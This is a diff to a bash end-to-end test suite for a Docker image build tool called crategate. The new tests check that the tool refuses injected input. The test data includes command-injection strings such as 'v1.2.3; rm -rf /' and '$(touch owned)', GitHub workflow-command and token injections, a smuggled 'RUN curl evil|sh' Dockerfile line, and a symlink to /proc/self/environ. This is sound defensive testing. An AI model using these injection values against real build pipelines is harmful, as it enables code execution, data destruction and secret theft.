@@ -24,15 +24,60 @@ expect_refused() {
   expect_equal "images in the layout or plan" "$(ls .crategate 2>/dev/null || true)" ""
 }
 
+# recorded_docker: from now on `docker` is one that notes its arguments in $WORK/asked before it does as it is told.
+recorded_docker() {
+  local real
+  real=$(command -v docker)
+  mkdir -p "$WORK/recording"
+  printf '#!/bin/sh\nprintf "%%s\\n" "$*" >>"%s"\nexec "%s" "$@"\n' "$WORK/asked" "$real" >"$WORK/recording/docker"
+  chmod +x "$WORK/recording/docker"
+  : >"$WORK/asked"
+  PATH=$WORK/recording:$PATH
+}
+
+# A04: the event's name says push, the payload says pull request.
+it_takes_a_push_with_a_pull_request_for_a_pull_request() {
+  project
+  echo more >>src/hello
+  commit 'A change'
+  recorded_docker
+  as_runner push refs/tags/v1.2.3 '{"ref": "refs/tags/v1.2.3", "pull_request": {"number": 7}}'
+  run crategate run --to "$OWN/a04" --only runtime=cpu --only python=3.11
+  expect_ok
+  expect_match "end" "$OUT" 'this event publishes nothing'
+  expect_match "what docker was asked" "$(<"$WORK/asked")" 'buildx build .*--no-cache'
+  expect_no_match "what docker was asked" "$(<"$WORK/asked")" '--cache-(to|from)|--push|login|(^|[[:space:]])push([[:space:]]|$)'
+  expect_equal "push" "$(output push)" false
+  expect_equal "requests to the registry" "$(requests)" 0
+  run crategate push
+  expect_failure 2 bad-input 'expected a plan that publishes' '.'
+  expect_equal "requests to the registry" "$(requests)" 0
+}
+
+# A10, A11, A12: docker and the runner see nothing of them.
 it_refuses_versions_that_are_none() {
   project
+  recorded_docker
+  as_runner push refs/tags/v1.2.3 '{}'
   local text
-  for text in '' '1.2\n' 'v1.2.3; rm -rf /\n' 'v1.2.3\nv1.2.4\n' '\xef\xbb\xbfv1.2.3\n' 'v1.2.3+build\n' '$(touch owned)\n' 'v1.2.3\0\n'; do
+  for text in '' '1.2\n' 'v1.2.3; rm -rf /\n' 'v1.2.3\nv1.2.4\n' '\xef\xbb\xbfv1.2.3\n' 'v1.2.3+build\n' '$(touch owned)\n' 'v1.2.3\0\n' \
+    'v1.0.0$(touch owned)\n' 'v1.0.0`touch owned`\n' 'v1.0.0;touch owned\n' 'v1.0.0|touch owned\n' 'v1.0.0&&touch owned\n' \
+    'v1.0.0${{ github.token }}\n' 'v1.0.0\n::error::x\n' 'v1.0.0\r::set-output name=version::x\n' 'v1.0.0%%0A::error::x\n' \
+    'v1.0.0##[command]x\n' 'v1.0.0\x1b[2J\n' 'latest\n' '-rc\n' '..\n' '--privileged\n' 'v1.2.3\xe2\x80\xa8\n' \
+    'v\xef\xbc\x91.2.3\n'; do
     # shellcheck disable=SC2059  # the escapes are the point
-    printf "$text" >VERSION
+    printf -- "$text" >VERSION
     expect_refused '^crategate: 2 bad-input: VERSION(:[0-9]+)*: ' '.'
+    expect_match "stdout" "$OUT" '^::error ([^:]*,)?title=crategate%3A bad-input::'
+    expect_equal "lines on stdout" "$(wc -l <<<"$OUT")" 1
   done
   [[ ! -e owned ]] || fail "no file made by a version"
+  truncate -s 1G VERSION
+  expect_refused 'VERSION.*1\.0 GiB' '.'
+  expect_equal "what docker was asked" "$(<"$WORK/asked")" ""
+  expect_match "output by the runner's grammar" "$(output error)" '1\.0 GiB'
+  expect_equal "outputs" "$(sed -n 's/<<ghadelimiter_.*//p' "$GITHUB_OUTPUT" | sort -u | paste -sd ' ')" 'error exit_code'
+  expect_equal "control characters" "$(tr -d '\n\40-\176\200-\377' <"$GITHUB_OUTPUT" | wc -c)" 0
   rm VERSION
   expect_refused 'VERSION: expected .*found no such file' 'VERSION'
   ln -s /etc/hostname VERSION
@@ -41,6 +86,9 @@ it_refuses_versions_that_are_none() {
   mkfifo VERSION
   run timeout 5 crategate plan "${TAG_PUSH[@]}"
   expect_failure 2 bad-input 'VERSION' '.'
+  rm VERSION
+  mkdir VERSION
+  expect_refused 'VERSION.*directory' '.'
 }
 
 it_reads_a_version_with_a_carriage_return() {
@@ -51,10 +99,11 @@ it_reads_a_version_with_a_carriage_return() {
   expect_equal "version" "$(jq -r .version .crategate/plan.json)" v1.2.3
 }
 
+# A14, A15
 it_refuses_python_versions_by_line() {
   project
   local text
-  for text in '3.11\n3.x\n' '3.11\n3.11\n' '3.11\n3.10.1\n' '3.11\n03.1\n' '3.11\n# text\n'; do
+  for text in '3.11\n3.10\rRUN curl evil|sh\n' '3.11\n3.10 AS x\n' '3.11\n3.11 \n' '3.11\n3.x\n' '3.11\n3.11\n' '3.11\n3.10.1\n' '3.11\n03.1\n' '3.11\n# text\n'; do
     # shellcheck disable=SC2059
     printf "$text" >PYTHON_VERSIONS
     expect_refused '^crategate: 2 bad-input: PYTHON_VERSIONS:2' '.'
@@ -63,6 +112,7 @@ it_refuses_python_versions_by_line() {
   expect_refused 'PYTHON_VERSIONS' '.'
 }
 
+# A15
 it_keeps_3_10_and_3_1_apart() {
   project
   printf '3.10\r\n\r\n3.1' >PYTHON_VERSIONS
@@ -71,6 +121,7 @@ it_keeps_3_10_and_3_1_apart() {
   expect_equal "cells" "$(jq -c '[.cells[].key]' .crategate/plan.json)" '["cpu-py3.10","cuda-py3.10","cpu-py3.1","cuda-py3.1"]'
 }
 
+# A13
 it_refuses_a_tag_that_is_not_the_version() {
   project
   run crategate run --to "$OWN" --event push --ref refs/tags/v1.2.4
@@ -78,6 +129,7 @@ it_refuses_a_tag_that_is_not_the_version() {
   expect_equal "requests to the registry" "$(requests)" 0
 }
 
+# A15
 it_refuses_more_cells_than_a_workflow_takes() {
   project
   {
@@ -119,12 +171,15 @@ it_refuses_a_template_with_an_unknown_variable() {
   expect_equal "requests that write" "$(writes)" 0
 }
 
+# A18
 it_writes_no_dockerfile_through_a_link() {
   project
   mkdir -p docker/dockerfiles "$WORK/elsewhere"
   ln -s "$WORK/elsewhere/stolen" docker/dockerfiles/Dockerfile.cpu-py3.11
   run crategate plan "${TAG_PUSH[@]}"
+  expect_ok
   run crategate generate
+  expect_failure 2 bad-input 'Dockerfile\.cpu-py3\.11.* symbolic link' '.'
   [[ ! -e $WORK/elsewhere/stolen ]] || fail "nothing written through a link"
   rm -rf docker/dockerfiles
   ln -s "$WORK/elsewhere" docker/dockerfiles
@@ -151,22 +206,32 @@ plan_of_payload() {
   run crategate plan "${TAG_PUSH[@]}" --payload "$WORK/payload.json"
 }
 
+# A01, A02, A03, A09
 it_refuses_a_broken_event() {
   project
   local text
   for text in '{"ref": "refs/tags/v1.2.3"' '{"ref": "refs/tags/v1.2.3", "x": "\ud800"}' '[]' '{"ref": 3}' \
-    '{"ref": "refs/tags/v1.2.3"} {}' $'{"ref": "refs/tags/v1.2.3", "x": "\xff"}' '{"ref": "refs/tags/other"}' 'nonsense'; do
+    '{"ref": "refs/tags/v1.2.3"} {}' $'{"ref": "refs/tags/v1.2.3", "x": "\xff"}' '{"ref": "refs/tags/other"}' 'nonsense' \
+    '{"ref": "refs/tags/v9.9.9", "ref": "refs/tags/v1.2.3"}' $'\xef\xbb\xbf{"ref": "refs/tags/v1.2.3"}'; do
     plan_of_payload "$text"
     expect_failure 2 bad-input 'event payload' '.'
   done
   run crategate plan "${TAG_PUSH[@]}" --payload "$WORK/none.json"
   expect_failure 2 bad-input 'event payload.*none\.json' '.'
+  ln -s /proc/self/environ "$WORK/linked.json"
+  CANARY=e2e-canary run timeout 5 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/linked.json"
+  expect_failure 2 bad-input 'linked\.json.* symbolic link' '.'
+  expect_no_match "output" "$OUT$ERR" 'canary'
+  mkfifo "$WORK/pipe.json"
+  run timeout 5 crategate plan "${TAG_PUSH[@]}" --payload "$WORK/pipe.json"
+  expect_failure 2 bad-input 'pipe\.json.* named pipe' '.'
   plan_of_payload ''
   ((STATUS == 0 || STATUS == 2)) || fail "exit 0 or 2"
   plan_of_payload "$(printf '{"a":%.0s' {1..100000})"
   expect_failure 2 bad-input 'event payload' '.'
 }
 
+# A01
 it_reads_a_huge_event() {
   project
   { printf '{"ref": "refs/tags/v1.2.3", "commits": ["'; head -c 30000000 /dev/zero | tr '\0' x; printf '"]}'; } >"$WORK/payload.json"
